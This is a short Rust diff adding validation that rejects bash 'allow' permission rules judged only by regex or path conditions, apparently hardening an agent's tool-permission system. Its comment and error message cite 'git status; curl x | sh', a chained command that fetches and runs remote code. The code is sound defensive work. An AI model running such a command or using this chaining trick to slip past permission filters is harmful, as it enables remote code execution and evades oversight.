@@ -217,6 +217,7 @@ pub(super) fn parse(
             RuleFile::deserialize(raw).map_err(|e| rule_error(e.message().to_owned()))?;
         let examples = spec.examples.take();
         let rule = compile(spec).map_err(&rule_error)?;
+        refuse_text_only_shell_allow(&rule).map_err(&rule_error)?;
         if let Some(examples) = examples.filter(|_| examples_mode == Examples::Check) {
             check_examples(&rule, examples).map_err(&rule_error)?;
         }
@@ -234,6 +235,27 @@ pub(super) fn parse(
         source: text.to_owned(),
         rules,
     })
+}
+
+/// An `allow` rule that can apply to `bash` must judge its parsed commands:
+/// a regex on the text, or a path condition on its redirections, would let
+/// `git status; curl x | sh` through.
+fn refuse_text_only_shell_allow(rule: &Rule) -> Result<(), String> {
+    let applies_to_bash = rule
+        .tools
+        .as_ref()
+        .is_none_or(|t| t.compiled.is_match("bash"));
+    let judges_text =
+        rule.command_regex.is_some() || rule.path_scope.is_some() || rule.path_glob.is_some();
+    let judges_commands = rule.command_prefix.is_some() || rule.commands.is_some();
+    if rule.action == Action::Allow && applies_to_bash && judges_text && !judges_commands {
+        return Err(
+            "an allow rule that applies to `bash` cannot judge it by `command_regex` or path conditions alone \
+             (`git status; curl x | sh` would pass); add `command_prefix` or `commands`, or leave `bash` out of `tools`"
+                .into(),
+        );
+    }
+    Ok(())
 }
 
 fn compile(spec: RuleFile) -> Result<Rule, String> {
